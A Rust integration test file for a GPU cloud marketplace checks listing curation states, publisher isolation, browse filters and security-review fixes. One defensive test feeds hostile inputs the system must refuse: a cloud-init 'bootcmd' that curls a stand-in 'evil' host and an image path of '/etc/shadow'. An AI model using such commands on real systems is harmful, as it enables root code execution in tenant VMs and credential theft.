//! The marketplace against a real database: the curation state machine (the database's guard
//! is the authority), publishers kept apart, what tenants see, and browse filters.

use control_plane::prelude::*;

use crate::support::in_tenant;

use crate::support::assert_db_refuses;
use control_plane::auth::{Platform, PlatformOperators};
use control_plane::demo::{ACME, GLOBEX};
use control_plane::marketplace::{BrowseFilter, Curation, PublisherActor, VersionDraft};
use control_plane::tenancy::TenantAdmins;
use control_plane::{ControlPlane, Error, ListingVersionId, Naming, UserId};
use sqlx::PgPool;
use uuid::uuid;

const ALICE: UserId = UserId(uuid!("0a0e0000-0000-4000-8002-000000000001"));
const CAROL: UserId = UserId(uuid!("0a0e0000-0000-4000-8002-000000000004"));

async fn setup(pool: PgPool) -> (ControlPlane, Platform<PlatformOperators>) {
    let cp = ControlPlane::new(pool, Naming::default());
    let ops = crate::support::operator(&cp, "ops@platform.example").await;
    (cp, ops)
}

async fn admin_of(
    cp: &ControlPlane,
    user: UserId,
    tenant: control_plane::TenantId,
) -> control_plane::tenancy::Tenant<TenantAdmins> {
    let p = cp.principal(user).await.unwrap().unwrap();
    in_tenant::<TenantAdmins>(cp, &p, tenant).await
}

/// What `sha256sum` printed for the (imaginary) triton image.
const TRITON_SHA256: &str = "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03";

fn draft(version: &str) -> VersionDraft {
    VersionDraft {
        version: version.into(),
        summary: "Triton inference server".into(),
        description_md: "Serves **models**.".into(),
        image_source: "/var/lib/gpuaas/images/triton.qcow2".into(),
        image_sha256: TRITON_SHA256.into(),
        ssh_user: "ubuntu".into(),
        shapes: "gpu_slice".into(),
        min_gpus: "1".into(),
        fee: "0.10 USD".into(),
        ..Default::default()
    }
}

/// The digest of `v`'s review, as the review page sends it with an approval.
async fn reviewed(
    cp: &ControlPlane,
    ops: &Platform<PlatformOperators>,
    v: ListingVersionId,
) -> String {
    control_plane::marketplace::content_digest(&cp.version_review(ops, v).await.unwrap().version)
}

fn conflict(e: Error) -> String {
    match e {
        Error::Conflict(m) => m,
        other => panic!("expected a conflict, got {other:?}"),
    }
}

async fn state_of(cp: &ControlPlane, id: ListingVersionId) -> String {
    sqlx::query_scalar("SELECT state FROM listing_versions WHERE id = $1")
        .bind(id.0)
        .fetch_one(cp.pool())
        .await
        .unwrap()
}

#[tokio::test]
async fn curation_follows_the_state_machine_and_every_step_is_audited() {
    let db = crate::support::demo_db().await;
    let pool = db.pool().clone();
    let (cp, ops) = setup(pool).await;
    let carol = admin_of(&cp, CAROL, GLOBEX).await;
    let globex = cp.tenant_publisher(&carol).await.unwrap();
    let v1 = cp
        .create_listing(&globex, "triton", "Triton", "ml_stack", &draft("1.0"), None)
        .await
        .unwrap();
    let visible = |cp: &ControlPlane| {
        let cp = cp.clone();
        async move {
            let b = cp
                .browse_marketplace(&BrowseFilter::default())
                .await
                .unwrap();
            let listed = b.cards.iter().any(|c| c.slug == "triton");
            let page = cp.listing_page("triton").await;
            assert_eq!(listed, page.is_ok(), "browse and the listing page agree");
            listed
        }
    };
    assert!(!visible(&cp).await, "a draft is not shown to tenants");

    // Operators can't act on a draft; a publisher can't skip review.
    for action in [Curation::Approve, Curation::Publish, Curation::Deprecate] {
        let m = conflict(
            cp.curate_version(
                &ops,
                v1,
                action,
                "",
                Some(&reviewed(&cp, &ops, v1).await),
                None,
            )
            .await
            .unwrap_err(),
        );
        assert!(m.contains("version 1.0 can't go from draft to"), "{m}");
    }
    cp.submit_version(&globex, v1, None).await.unwrap();
    assert!(!visible(&cp).await, "in review is not shown either");
    // Rejecting needs a reason; the reason reaches the publisher.
    match cp
        .curate_version(&ops, v1, Curation::Reject, "  ", None, None)
        .await
        .unwrap_err()
    {
        Error::Invalid { field, .. } => assert_eq!(field, "reason"),
        other => panic!("{other:?}"),
    }
    cp.curate_version(
        &ops,
        v1,
        Curation::Reject,
        "The image has no NVIDIA driver.",
        None,
        None,
    )
    .await
    .unwrap();
    let mine = cp.publisher_listings(&globex).await.unwrap();
    let triton = mine.iter().find(|l| l.slug == "triton").unwrap();
    assert_eq!(
        triton.versions[0].review_reason.as_deref(),
        Some("The image has no NVIDIA driver.")
    );
    // A rejected version can be fixed (its content is still the publisher's) and resubmitted.
    let first_review = reviewed(&cp, &ops, v1).await;
    sqlx::query("UPDATE listing_versions SET image_source = '/var/lib/gpuaas/images/triton-fixed.qcow2' WHERE id = $1")
        .bind(v1.0)
        .execute(cp.pool())
        .await
        .unwrap();
    cp.submit_version(&globex, v1, None).await.unwrap();
    // Only the content the operator was shown can be approved: no review, no approval, and the
    // review of what was rejected doesn't approve what came back.
    match cp
        .curate_version(&ops, v1, Curation::Approve, "", None, None)
        .await
        .unwrap_err()
    {
        Error::Invalid { field, .. } => assert_eq!(field, "reviewed"),
        other => panic!("{other:?}"),
    }
    let m = conflict(
        cp.curate_version(&ops, v1, Curation::Approve, "", Some(&first_review), None)
            .await
            .unwrap_err(),
    );
    assert!(m.contains("not the content you reviewed"), "{m}");
    assert_eq!(state_of(&cp, v1).await, "in_review");
    let digest = reviewed(&cp, &ops, v1).await;
    assert_ne!(digest, first_review);
    cp.curate_version(&ops, v1, Curation::Approve, "", Some(&digest), None)
        .await
        .unwrap();
    let kept: Option<String> = sqlx::query_scalar(
        "SELECT after->>'reviewed_content' FROM audit_log
         WHERE action = 'listing.version.approve' ORDER BY id DESC LIMIT 1",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(
        kept.as_deref(),
        Some(digest.as_str()),
        "the audit keeps what was approved"
    );
    // Once it left the publisher, its content is fixed.
    let err = sqlx::query("UPDATE listing_versions SET fee_per_hour_minor = 1 WHERE id = $1")
        .bind(v1.0)
        .execute(cp.pool())
        .await
        .unwrap_err()
        .to_string();
    assert!(
        err.contains(
            "version 1.0 is approved; its content is fixed, publish a new version instead"
        ),
        "{err}"
    );
    assert!(!visible(&cp).await, "approved is not published");
    cp.curate_version(&ops, v1, Curation::Publish, "", None, None)
        .await
        .unwrap();
    assert!(visible(&cp).await);
    let page = cp.listing_page("triton").await.unwrap();
    assert_eq!(page.listing.publisher, "Globex Labs");
    assert!(
        page.fitting
            .iter()
            .all(|f| f.sku.shape.as_str() == "gpu_slice"),
        "only slices fit"
    );
    assert_eq!(
        page.fitting
            .iter()
            .find(|f| f.sku.name == "h100.1x")
            .unwrap()
            .total_price
            .to_string(),
        "3.09 USD"
    );

    // Illegal moves from published: back to review or approval, or a resubmission.
    for action in [Curation::Approve, Curation::Reject, Curation::Publish] {
        let m = conflict(
            cp.curate_version(
                &ops,
                v1,
                action,
                "why",
                Some(&reviewed(&cp, &ops, v1).await),
                None,
            )
            .await
            .unwrap_err(),
        );
        assert!(
            m.contains("can't go from published to") || m.contains("is already published"),
            "{m}"
        );
    }
    let m = conflict(cp.submit_version(&globex, v1, None).await.unwrap_err());
    assert!(m.contains("can't go from published to in_review"), "{m}");
    // Deprecated: hidden from tenants; withdrawn is final.
    cp.curate_version(&ops, v1, Curation::Deprecate, "", None, None)
        .await
        .unwrap();
    assert!(!visible(&cp).await, "a deprecated version is not shown");
    cp.curate_version(&ops, v1, Curation::Withdraw, "", None, None)
        .await
        .unwrap();
    for action in [Curation::Publish, Curation::Deprecate, Curation::Withdraw] {
        conflict(
            cp.curate_version(
                &ops,
                v1,
                action,
                "",
                Some(&reviewed(&cp, &ops, v1).await),
                None,
            )
            .await
            .unwrap_err(),
        );
    }
    assert_eq!(state_of(&cp, v1).await, "withdrawn");
    // Only drafts can be discarded.
    let err = sqlx::query("DELETE FROM listing_versions WHERE id = $1")
        .bind(v1.0)
        .execute(cp.pool())
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("only drafts can be discarded"), "{err}");

    // Every step is in the audit log, against the listing.
    let steps: Vec<String> = sqlx::query_scalar(
        "SELECT action FROM audit_log WHERE resource LIKE '%:listing:triton' ORDER BY id",
    )
    .fetch_all(cp.pool())
    .await
    .unwrap();
    assert_eq!(
        steps,
        [
            "listing.create",
            "listing.version.submit",
            "listing.version.reject",
            "listing.version.submit",
            "listing.version.approve",
            "listing.version.publish",
            "listing.version.deprecate",
            "listing.version.withdraw",
        ]
    );
}

#[tokio::test]
async fn publishers_are_kept_apart_and_must_be_approved() {
    let db = crate::support::demo_db().await;
    let pool = db.pool().clone();
    let (cp, ops) = setup(pool).await;
    let alice = admin_of(&cp, ALICE, ACME).await;
    // Acme doesn't publish yet: it applies, drafts, and can't submit until approved.
    assert!(matches!(
        cp.tenant_publisher(&alice).await,
        Err(Error::NotFound { .. })
    ));
    let acme_pub = cp.apply_to_publish(&alice, "Acme AI", None).await.unwrap();
    let acme = cp.tenant_publisher(&alice).await.unwrap();
    let v = cp
        .create_listing(&acme, "acme-stack", "Acme stack", "app", &draft("1"), None)
        .await
        .unwrap();
    let m = conflict(cp.submit_version(&acme, v, None).await.unwrap_err());
    assert_eq!(
        m,
        "the publisher is pending (not approved), so version 1 can't be in_review"
    );
    cp.decide_publisher(&ops, acme_pub, true, "80", None)
        .await
        .unwrap();
    cp.submit_version(&acme, v, None).await.unwrap();

    // Globex can't see, version or submit Acme's listing, and the other way round.
    let carol = admin_of(&cp, CAROL, GLOBEX).await;
    let globex = cp.tenant_publisher(&carol).await.unwrap();
    assert!(matches!(
        cp.create_version(&globex, "acme-stack", &draft("2"), None)
            .await,
        Err(Error::NotFound { .. })
    ));
    assert!(matches!(
        cp.submit_version(&globex, v, None).await,
        Err(Error::NotFound { .. })
    ));
    assert!(
        cp.publisher_listings(&globex)
            .await
            .unwrap()
            .iter()
            .all(|l| l.slug != "acme-stack")
    );
    let slurm: ListingVersionId = sqlx::query_scalar::<_, uuid::Uuid>(
        "SELECT v.id FROM listing_versions v JOIN listings l ON l.id = v.listing_id WHERE l.slug = 'slurm-head'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap()
    .into();
    assert!(matches!(
        cp.submit_version(&acme, slurm, None).await,
        Err(Error::NotFound { .. })
    ));
    // Operators publish for the platform, and a version number is never reused.
    let platform = PublisherActor::platform(&ops);
    let m = cp
        .create_version(&platform, "pytorch", &draft("2.5"), None)
        .await
        .unwrap_err();
    assert!(m.to_string().contains("version 2.5 exists already"), "{m}");
    cp.create_version(&platform, "pytorch", &draft("2.6"), None)
        .await
        .unwrap();
    // A suspended publisher's versions can't move forward.
    cp.decide_publisher(&ops, acme_pub, false, "80", None)
        .await
        .unwrap();
    let m = conflict(
        cp.curate_version(
            &ops,
            v,
            Curation::Approve,
            "",
            Some(&reviewed(&cp, &ops, v).await),
            None,
        )
        .await
        .unwrap_err(),
    );
    assert!(m.contains("the publisher is suspended"), "{m}");
    // Revenue shares are percentages.
    match cp.decide_publisher(&ops, acme_pub, true, "120", None).await {
        Err(Error::Invalid { field, .. }) => assert_eq!(field, "revenue_share"),
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn browsing_filters_by_words_category_gpu_model_and_price() {
    let db = crate::support::demo_db().await;
    let pool = db.pool().clone();
    let (cp, _ops) = setup(pool).await;
    let slugs = |f: BrowseFilter| {
        let cp = cp.clone();
        async move {
            let mut s: Vec<String> = cp
                .browse_marketplace(&f)
                .await
                .unwrap()
                .cards
                .into_iter()
                .map(|c| c.slug)
                .collect();
            s.sort();
            s
        }
    };
    // Published listings only: the Slurm head node is still in review.
    assert_eq!(
        slugs(BrowseFilter::default()).await,
        [
            "jupyterlab",
            "pytorch",
            "ray-cluster",
            "rocky-9-cuda",
            "ubuntu-24.04-cuda",
            "vllm"
        ]
    );
    // Words match names, summaries and descriptions (JupyterLab ships a PyTorch kernel).
    assert_eq!(
        slugs(BrowseFilter {
            q: "pytorch".into(),
            ..Default::default()
        })
        .await,
        ["jupyterlab", "pytorch"]
    );
    assert_eq!(
        slugs(BrowseFilter {
            q: "PyTorch torchrun".into(),
            ..Default::default()
        })
        .await,
        ["pytorch"]
    );
    assert_eq!(
        slugs(BrowseFilter {
            category: "app".into(),
            ..Default::default()
        })
        .await,
        ["ray-cluster"]
    );
    // vLLM runs only on H100: an L40S filter drops it.
    let l40s = slugs(BrowseFilter {
        gpu_model: "NVIDIA L40S".into(),
        ..Default::default()
    })
    .await;
    assert!(!l40s.contains(&"vllm".to_string()) && l40s.contains(&"pytorch".to_string()));
    // Cheapest fit + fee: PyTorch from 1.19 + 0.25 = 1.44 (L40S); Ray needs 2 GPUs:
    // 2.38 + 1.00 = 3.38.
    let b = cp
        .browse_marketplace(&BrowseFilter::default())
        .await
        .unwrap();
    let from = |slug: &str| {
        b.cards
            .iter()
            .find(|c| c.slug == slug)
            .unwrap()
            .from_price
            .as_ref()
            .unwrap()
            .to_string()
    };
    assert_eq!(from("pytorch"), "1.44 USD");
    assert_eq!(from("ray-cluster"), "3.38 USD");
    assert_eq!(from("vllm"), "3.39 USD");
    let cheap = slugs(BrowseFilter {
        max_price_minor: Some(300),
        ..Default::default()
    })
    .await;
    assert_eq!(
        cheap,
        ["jupyterlab", "pytorch", "rocky-9-cuda", "ubuntu-24.04-cuda"]
    );
    match cp
        .browse_marketplace(&BrowseFilter {
            category: "games".into(),
            ..Default::default()
        })
        .await
    {
        Err(Error::Invalid { field, .. }) => assert_eq!(field, "category"),
        other => panic!("{other:?}"),
    }
}

/// Finding 2 of the security review: cloud-init was a blocklist of seven keys, so an approved
/// publisher's `runcmd` ran as root in every tenant VM launched from the listing.
#[tokio::test]
async fn cloud_init_outside_the_allowlist_and_images_outside_the_image_directory_are_refused() {
    let db = crate::support::demo_db().await;
    let (cp, _ops) = setup(db.pool().clone()).await;
    // Written past the Rust checks, straight into the table: the schema refuses it.
    let err = sqlx::query(
        "INSERT INTO listing_versions (id, listing_id, version, summary, image_source, ssh_user,
                                       cloud_init, shapes)
         SELECT gen_random_uuid(), id, '9.9', 'x', '/var/lib/gpuaas/images/x.qcow2', 'ubuntu',
                '{\"packages\": [\"nvtop\"], \"write_files\": []}', ARRAY['gpu_slice']
         FROM listings WHERE slug = 'vllm'",
    )
    .execute(cp.pool())
    .await
    .unwrap_err();
    assert!(
        err.to_string()
            .contains("cloud-init key \"write_files\" is not allowed"),
        "{err}"
    );
    // Finding 3: an image is a file in the operator's image directory, nothing else on the host.
    assert_db_refuses(&cp, "INSERT INTO listing_versions (id, listing_id, version, summary, image_source, ssh_user, shapes)
         SELECT gen_random_uuid(), id, '9.9', 'x', '/etc/shadow', 'ubuntu', ARRAY['gpu_slice']
         FROM listings WHERE slug = 'vllm'", "image source /etc/shadow is not").await;
    // And through the product, the refusal names the key.
    let carol = admin_of(&cp, CAROL, GLOBEX).await;
    let publisher = cp.tenant_publisher(&carol).await.unwrap();
    let err = cp
        .create_version(
            &publisher,
            "vllm",
            &VersionDraft {
                cloud_init: r#"{"bootcmd": [["curl", "http://evil"]]}"#.into(),
                ..draft("9.9")
            },
            None,
        )
        .await
        .unwrap_err();
    match err {
        Error::Invalid {
            field: "cloud_init",
            reason,
        } => assert!(reason.starts_with("\"bootcmd\" is not allowed"), "{reason}"),
        other => panic!("expected cloud_init refused, got {other:?}"),
    }
}

#[tokio::test]
async fn a_review_shows_every_field_and_what_changed_since_the_version_in_force() {
    let db = crate::support::demo_db().await;
    let (cp, ops) = setup(db.pool().clone()).await;
    let id: uuid::Uuid = sqlx::query_scalar(
        "SELECT v.id FROM listing_versions v JOIN listings l ON l.id = v.listing_id
         WHERE l.slug = 'vllm' AND v.version = '0.6.5'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    let review = cp.version_review(&ops, ListingVersionId(id)).await.unwrap();
    assert_eq!(review.publisher, "Globex Labs");
    let in_force = review.in_force.as_ref().expect("0.6.4 is published");
    assert_eq!(in_force.version, "0.6.4");
    let changes = control_plane::marketplace::changes(in_force, &review.version);
    let fields: Vec<_> = changes.iter().map(|c| c.field).collect();
    assert_eq!(
        fields,
        [
            "Summary",
            "Description (Markdown)",
            "Release notes",
            "Image source",
            "Cloud-init",
            "Hourly fee"
        ]
    );
    let fee = changes.iter().find(|c| c.field == "Hourly fee").unwrap();
    assert_eq!(
        (fee.before.as_str(), fee.after.as_str()),
        ("0.40 USD", "0.45 USD")
    );
    // Every field is there to read, changed or not.
    let all = control_plane::marketplace::review_fields(&review.version);
    assert_eq!(all.len(), 13);
    assert!(all.contains(&("Tenant user data", "not accepted".to_string())));
    assert!(all.contains(&("Published ports", "8000".to_string())));
    assert!(all.contains(&("SSH user", "ubuntu".to_string())));
    assert!(
        all.contains(&("Image SHA-256", "(none)".to_string())),
        "seeded before checksums"
    );

    // The first version of a listing has nothing in force.
    let id: uuid::Uuid = sqlx::query_scalar(
        "SELECT v.id FROM listing_versions v JOIN listings l ON l.id = v.listing_id
         WHERE l.slug = 'slurm-head'",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert!(
        cp.version_review(&ops, ListingVersionId(id))
            .await
            .unwrap()
            .in_force
            .is_none()
    );
    assert!(matches!(
        cp.version_review(&ops, ListingVersionId(uuid::Uuid::new_v4()))
            .await,
        Err(Error::NotFound { .. })
    ));
}

/// Finding 3: a third-party image is launched only if it is the file that was reviewed, so a
/// version names its checksum before it can be reviewed, and the review shows it.
#[tokio::test]
async fn a_third_party_version_goes_to_review_only_with_its_image_checksum() {
    let db = crate::support::demo_db().await;
    let (cp, ops) = setup(db.pool().clone()).await;
    let carol = admin_of(&cp, CAROL, GLOBEX).await;
    let globex = cp.tenant_publisher(&carol).await.unwrap();
    let field = |e: Error| match e {
        Error::Invalid { field, reason } => (field, reason),
        other => panic!("expected a refused field, got {other:?}"),
    };
    let (f, reason) = field(
        cp.create_version(
            &globex,
            "vllm",
            &VersionDraft {
                image_sha256: "not-a-checksum".into(),
                ..draft("9.8")
            },
            None,
        )
        .await
        .unwrap_err(),
    );
    assert_eq!(f, "image_sha256");
    assert!(reason.contains("64 hexadecimal digits"), "{reason}");

    // None at all: refused when drafted, and a draft from before checksums (written here
    // straight into the table) can't go to review.
    let (f, _) = field(
        cp.create_version(
            &globex,
            "vllm",
            &VersionDraft {
                image_sha256: String::new(),
                ..draft("9.8")
            },
            None,
        )
        .await
        .unwrap_err(),
    );
    assert_eq!(f, "image_sha256");
    let v = ListingVersionId(
        sqlx::query_scalar(
            "INSERT INTO listing_versions (id, listing_id, version, summary, image_source, ssh_user, shapes)
             SELECT gen_random_uuid(), id, '9.8', 'x', '/var/lib/gpuaas/images/x.qcow2', 'ubuntu',
                    ARRAY['gpu_slice']
             FROM listings WHERE slug = 'vllm' RETURNING id",
        )
        .fetch_one(cp.pool())
        .await
        .unwrap(),
    );
    let (f, reason) = field(cp.submit_version(&globex, v, None).await.unwrap_err());
    assert_eq!(f, "image_sha256");
    assert!(reason.contains("sha256sum"), "{reason}");
    assert_eq!(state_of(&cp, v).await, "draft");

    // As `sha256sum` prints it, or with a prefix in capitals: kept as lowercase hex.
    let v = cp
        .create_version(
            &globex,
            "vllm",
            &VersionDraft {
                image_sha256: format!("sha256:{}", TRITON_SHA256.to_uppercase()),
                ..draft("9.9")
            },
            None,
        )
        .await
        .unwrap();
    cp.submit_version(&globex, v, None).await.unwrap();
    let review = cp.version_review(&ops, v).await.unwrap();
    assert_eq!(review.version.image_sha256.as_deref(), Some(TRITON_SHA256));
    assert!(
        control_plane::marketplace::review_fields(&review.version)
            .contains(&("Image SHA-256", TRITON_SHA256.to_string()))
    );
    // The schema keeps the form, whatever writes it.
    assert_db_refuses(
        &cp,
        "UPDATE listing_versions SET image_sha256 = 'ABC' WHERE version = '9.8'",
        "listing_versions_image_sha256",
    )
    .await;
}

/// Whether a version takes a tenant's own user data is the publisher's to say, the reviewer's
/// to see, and fixed once reviewed; the platform's OS images take it.
#[tokio::test]
async fn a_version_says_whether_it_accepts_user_data_and_keeps_saying_it() {
    let db = crate::support::demo_db().await;
    let (cp, ops) = setup(db.pool().clone()).await;
    let carol = admin_of(&cp, CAROL, GLOBEX).await;
    let globex = cp.tenant_publisher(&carol).await.unwrap();
    let v = cp
        .create_version(
            &globex,
            "vllm",
            &VersionDraft {
                accepts_user_data: "yes".into(),
                ..draft("9.7")
            },
            None,
        )
        .await
        .unwrap();
    cp.submit_version(&globex, v, None).await.unwrap();
    let review = cp.version_review(&ops, v).await.unwrap();
    assert!(review.version.accepts_user_data);
    assert!(
        control_plane::marketplace::review_fields(&review.version)
            .contains(&("Tenant user data", "accepted".to_string()))
    );
    let in_force = review.in_force.expect("0.6.4 is published");
    assert!(
        !in_force.accepts_user_data,
        "a stack doesn't, unless it says so"
    );
    let changed: Vec<_> = control_plane::marketplace::changes(&in_force, &review.version)
        .into_iter()
        .map(|c| c.field)
        .collect();
    assert!(changed.contains(&"Tenant user data"), "{changed:?}");
    // Anything else is refused, naming the field.
    match cp
        .create_version(
            &globex,
            "vllm",
            &VersionDraft {
                accepts_user_data: "maybe".into(),
                ..draft("9.6")
            },
            None,
        )
        .await
    {
        Err(Error::Invalid { field, .. }) => assert_eq!(field, "accepts_user_data"),
        other => panic!("expected a refusal, got {other:?}"),
    }
    // The platform's OS images take user data (the migration and the demo say so).
    let images: Vec<(String, bool)> = sqlx::query_as(
        "SELECT l.slug, v.accepts_user_data FROM listing_versions v
           JOIN listings l ON l.id = v.listing_id
          WHERE v.state = 'published' ORDER BY l.slug",
    )
    .fetch_all(cp.pool())
    .await
    .unwrap();
    for (slug, accepts) in &images {
        let os = slug.starts_with("ubuntu") || slug.starts_with("rocky");
        assert_eq!(*accepts, os, "{slug}");
    }
    // And what was reviewed stays as it was.
    assert_db_refuses(
        &cp,
        "UPDATE listing_versions SET accepts_user_data = NOT accepts_user_data
          WHERE state = 'in_review'",
        "its content is fixed",
    )
    .await;
}

/// A listing names the ports its software listens on; the reviewer sees them, the launch
/// form and the API offer them, and the database holds them to the launch's port rule.
#[tokio::test]
async fn a_version_names_the_ports_a_launch_publishes() {
    use control_plane::marketplace::browse::MarketplaceApi;
    let db = crate::support::demo_db().await;
    let (cp, ops) = setup(db.pool().clone()).await;
    let carol = admin_of(&cp, CAROL, GLOBEX).await;
    let globex = cp.tenant_publisher(&carol).await.unwrap();
    let v = cp
        .create_version(
            &globex,
            "vllm",
            &VersionDraft {
                published_ports: "8080, 8000".into(),
                ..draft("9.7")
            },
            None,
        )
        .await
        .unwrap();
    cp.submit_version(&globex, v, None).await.unwrap();
    let review = cp.version_review(&ops, v).await.unwrap();
    assert_eq!(review.version.published_ports, vec![8000, 8080]);
    let in_force = review.in_force.expect("0.6.4 is published");
    assert_eq!(
        in_force.published_ports,
        vec![8000],
        "the demo's vLLM serves on 8000"
    );
    let changes = control_plane::marketplace::changes(&in_force, &review.version);
    let ports = changes
        .iter()
        .find(|c| c.field == "Published ports")
        .expect("the review shows the ports changed");
    assert_eq!(
        (ports.before.as_str(), ports.after.as_str()),
        ("8000", "8000, 8080")
    );

    // What the launch form and the API offer: the version in force's ports.
    let listings = cp.launchable_listings().await.unwrap();
    let vllm = listings.iter().find(|l| l.slug == "vllm").unwrap();
    assert_eq!(vllm.published_ports, vec![8000]);
    let ubuntu = listings
        .iter()
        .find(|l| l.slug.starts_with("ubuntu"))
        .unwrap();
    assert!(
        ubuntu.published_ports.is_empty(),
        "an OS image publishes nothing by itself"
    );
    let images = cp.launchable_images(ACME, None).await.unwrap();
    assert_eq!(
        images
            .iter()
            .find(|i| i.slug == "vllm")
            .unwrap()
            .published_ports,
        vec![8000]
    );

    // SSH's port is not the publisher's to take, here or in the database.
    match cp
        .create_version(
            &globex,
            "vllm",
            &VersionDraft {
                published_ports: "22".into(),
                ..draft("9.6")
            },
            None,
        )
        .await
    {
        Err(Error::Invalid { field, .. }) => assert_eq!(field, "published_ports"),
        other => panic!("expected a refusal, got {other:?}"),
    }
    let draft_id = cp
        .create_version(&globex, "vllm", &draft("9.5"), None)
        .await
        .unwrap();
    assert_db_refuses(
        &cp,
        &format!(
            "UPDATE listing_versions SET published_ports = '{{8000,22}}' WHERE id = '{draft_id}'"
        ),
        "listing_versions_published_ports_valid",
    )
    .await;
}
